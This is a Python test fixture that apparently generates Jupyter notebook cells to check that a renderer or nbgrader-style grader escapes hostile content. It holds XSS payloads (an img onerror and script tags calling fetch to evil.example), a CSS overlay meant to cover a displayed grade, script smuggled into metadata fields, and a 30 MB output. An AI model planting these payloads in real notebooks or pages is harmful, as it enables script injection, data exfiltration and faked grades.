"""Cells that try to run a script, ask another host or draw over a grade where they are shown."""

import tomllib
from html import escape
from pathlib import Path

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

RUN = "window.hacked = 1; document.title = 'hacked'; fetch('https://evil.example/x')"
OVERLAY = "position: fixed; top: 0; left: 0; width: 100%; height: 9rem; z-index: 9"
BAD = f'<img src=x onerror="{RUN}">'
PLACES = {"ESCAPED": escape(BAD), "BAD": BAD, "OVERLAY": OVERLAY, "RUN": RUN}


def filled(attempts):
    """The attempts, which are text or tables and lists of it, with code in its places."""
    if isinstance(attempts, dict):
        return {name: filled(each) for name, each in attempts.items()}
    if isinstance(attempts, list):
        return [filled(each) for each in attempts]
    for name, code in PLACES.items():
        attempts = attempts.replace(name, code)
    return attempts


ATTEMPTS = filled(
    tomllib.loads(Path(__file__).with_name("hostile.toml").read_text(encoding="utf-8"))
)


def cells():
    """One cell for each attempt, and a few whose metadata or size is the attempt."""
    yield from (new_markdown_cell(source) for source in (*ATTEMPTS["html"], *ATTEMPTS["markdown"]))
    outputs = [new_output("display_data", data={"text/html": html}) for html in ATTEMPTS["html"]]
    outputs += [new_output("display_data", data=data) for data in ATTEMPTS["data"]]
    outputs.append(new_output("stream", text=f"</pre><script>{RUN}</script>\x1b[31mred\ud800"))
    outputs.append(
        new_output("error", ename="E<script>", evalue="</pre>", traceback=[f"<script>{RUN}"])
    )
    yield new_code_cell("1", outputs=outputs)
    raw = {"raw_mimetype": "text/html"}
    yield new_raw_cell(f"<script>{RUN}</script>", metadata=raw)
    marks = {"schema_version": 3, "grade": True, "solution": False, "locked": True, "task": False}
    marks |= {"points": 100, "grade_id": f'x"><script>{RUN}</script>'}
    yield new_markdown_cell("metadata", metadata={"nbgrader": marks, "tags": ["<script>"]})
    yield new_code_cell("2", metadata={"magics_language": f'"><script>{RUN}</script>'})
    yield new_code_cell("3", outputs=[new_output("stream", text="x" * 30_000_000)])
